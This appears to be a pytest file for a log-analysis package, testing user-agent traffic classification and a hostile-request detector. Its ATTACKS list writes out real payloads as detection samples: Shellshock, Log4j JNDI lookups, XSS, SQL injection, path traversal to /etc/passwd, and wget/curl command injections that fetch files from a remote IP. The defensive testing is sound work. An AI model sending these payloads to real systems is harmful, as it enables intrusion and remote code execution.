"""Traffic classes of user agents, and hostile texts."""

from __future__ import annotations

import csv
import time
from pathlib import Path
from typing import Final

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from logstats.derive.traffic import CLASS_OF_LIST, EMPTY_USER_AGENT, classify_user_agents, is_hostile
from logstats.lists import pattern_list

CASES: Final = Path(__file__).parent / "cases"
CLASSES: Final = {*CLASS_OF_LIST.values(), "human"}
FIREFOX: Final = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0"


def _cases(name: str) -> list[dict[str, str]]:
    with (CASES / name).open(encoding="utf-8") as file:
        return list(csv.DictReader(file))


def _classify(*user_agents: str | None) -> list[tuple[str, str | None]]:
    return classify_user_agents(pl.Series(user_agents, dtype=pl.String), explain=True).rows()


@pytest.mark.parametrize("case", _cases("bots.csv"), ids=lambda case: case["description"])
def test_robots(case: dict[str, str]) -> None:
    """Each robot of the table has the class written there."""
    assert _classify(case["user_agent"])[0][0] == case["traffic"]


def test_robots_table_has_every_class() -> None:
    """The table is long enough to mean something."""
    cases = _cases("bots.csv")
    assert len(cases) >= 150
    assert {case["traffic"] for case in cases} == CLASSES - {"human"}


def test_people() -> None:
    """At most one in a hundred human browsers is taken for a robot, and none for an attack."""
    user_agents = pl.Series([case["user_agent"] for case in _cases("humans.csv")])
    assert user_agents.len() >= 100
    traffic = classify_user_agents(user_agents)["traffic"]
    assert (traffic != "human").sum() <= user_agents.len() // 100
    assert not is_hostile(user_agents)["hostile"].any()


@pytest.mark.parametrize("user_agent", (None, "", "-", " ", " - "))
def test_empty_user_agent(user_agent: str | None) -> None:
    """Who sends no user agent is a bot."""
    assert _classify(user_agent) == [("bot", EMPTY_USER_AGENT)]


@pytest.mark.parametrize("name", [name for name in CLASS_OF_LIST if name != "bots"])
def test_every_example(name: str) -> None:
    """Every example of every list has the class of its list, and its entry as the rule."""
    entries = pattern_list(name).entries
    expected = [(CLASS_OF_LIST[name], f"{name}: {entry.name}") for entry in entries]
    assert _classify(*(entry.example for entry in entries)) == expected


def test_rule_of_a_bot_is_the_pattern_of_isbot() -> None:
    """The patterns of isbot have no names: the pattern itself is the rule."""
    assert _classify("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 SomeCrawler/0.9 like Firefox") == [
        ("bot", "bots: crawl")
    ]


def test_rules_only_when_asked_for() -> None:
    """Without `explain` the class is the same and the rule is null."""
    user_agents = pl.Series([case["user_agent"] for case in _cases("bots.csv")])
    short, long = classify_user_agents(user_agents), classify_user_agents(user_agents, explain=True)
    assert short["traffic"].equals(long["traffic"])
    assert short["traffic_rule"].null_count() == short.height
    assert long["traffic_rule"].null_count() == 0
    assert short.schema == long.schema == {"traffic": pl.String, "traffic_rule": pl.String}


def test_no_user_agents() -> None:
    """No user agents give no rows but the columns; a column without a type is one of nulls."""
    empty = classify_user_agents(pl.Series([], dtype=pl.String), explain=True)
    assert empty.schema == {"traffic": pl.String, "traffic_rule": pl.String}
    assert empty.is_empty()
    assert classify_user_agents(pl.Series([None, None]))["traffic"].to_list() == ["bot", "bot"]


@given(st.lists(st.text(max_size=80)))
def test_any_text_has_one_class(texts: list[str]) -> None:
    """Whatever a client sends has exactly one class; a rule is given unless it is human."""
    for traffic, rule in _classify(*texts):
        assert traffic in CLASSES
        assert (rule is None) == (traffic == "human")


@given(st.text("QWXZ;()/ .", min_size=12, max_size=60))
def test_rule_never_holds_the_user_agent(secret: str) -> None:
    """P6: neither class nor rule repeats a user agent."""
    for traffic, rule in _classify(f"{secret} bot", f"{FIREFOX} {secret}", f"GPTBot {secret}"):
        assert secret not in f"{traffic} {rule}"


def test_many_at_once_in_order() -> None:
    """Rows come back in the order in which they were given."""
    expected = [("human", None), ("tool", "tools: curl"), ("ai_crawler", "ai_crawlers: GPTBot")]
    assert _classify(FIREFOX, "curl/8.5.0", "GPTBot/1.0") == expected


ATTACKS: Final = (
    '() { :;}; echo "NS:" $(/bin/sh -c "expr 1 - 2")',
    r"() { :;}; echo \x22NS:\x22",
    "/cgi-bin/x?%28%29%20%7B%20:;%7D",
    "${jndi:${lower:l}dap://198.51.100.9/a}",
    "${${::-j}${::-n}di:ldap://198.51.100.9/a}",
    "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D",
    "${JNDI:LDAP://198.51.100.9/a}",
    "/index.php?x=<?php echo 1;?>",
    r"/index.php?x=<?echo(md5(\"hi\"));?>",
    "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/a?q=<SCRIPT>alert(1)",
    "/../../../../etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/static/..%252f..%252f..%252fwin.ini",
    "/a?id=1+UNION+ALL+SELECT+1,2,3",
    "/a?id=1'%20or%20'1'='1",
    "/a?id=1%27+OR+%271%27=%271",
    "/a?id=1 and sleep(5)",
    "/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/x.m+-O+/tmp/y",
    "/shell?cd+/tmp;curl+203.0.113.9/x;chmod+777+x",
    "/?s=index/think/app/invokefunction&function=call_user_func_array",
    "/vendor/x.php?-d+allow_url_include=on+-d+auto_prepend_file=php://input",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks(text: str) -> None:
    """Each attack is recognised, raw and percent-encoded, and named."""
    hostile, rule = is_hostile(pl.Series([text])).row(0)
    assert hostile
    assert rule


HARMLESS: Final = (
    None,
    "",
    "-",
    "/",
    "/a/../b.html",
    "/recherche?q=l%27union+fait+la+force",
    "/recherche?q=select+committee",
    "/recherche?q=curl+7.88",
    "/docs/wget.html",
    "/javascript/script.js",
    "/a?onload=loaded",
    "/etc/",
    "/a?x={id}",
    "/a?price=$10",
    "/demarches/l'acte-de-naissance?or=1",
    "https://www.google.fr/search?q=php",
    FIREFOX,
)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless(text: str | None) -> None:
    """What people and their browsers send is no attack."""
    assert is_hostile(pl.Series([text], dtype=pl.String)).row(0) == (False, None)


def test_log4j_as_a_user_agent_is_left_to_be_suspected() -> None:
    """The user agent of the log4j attack names no robot, so that being hostile decides."""
    user_agent = "${jndi:${lower:l}dap://198.51.100.9/a}"
    assert _classify(user_agent) == [("human", None)]
    assert is_hostile(pl.Series([user_agent])).row(0) == (True, "log4j")


def test_nothing_hostile_in_nothing() -> None:
    """No texts give no rows but the columns."""
    empty = is_hostile(pl.Series([], dtype=pl.String))
    assert empty.schema == {"hostile": pl.Boolean, "hostile_rule": pl.String}
    assert empty.is_empty()


@pytest.mark.parametrize("piece", ("(", "a ", "Mozilla/5.0 ", '"', "\\", "google/", "é", "../", "${"))
def test_hostile_length_is_linear(piece: str) -> None:
    """A user agent of 64 KiB made to confuse patterns takes no time worth naming."""
    text = pl.Series([piece * (65_536 // len(piece))])
    start = time.perf_counter()
    classify_user_agents(text, explain=True)
    is_hostile(text)
    assert time.perf_counter() - start < 2
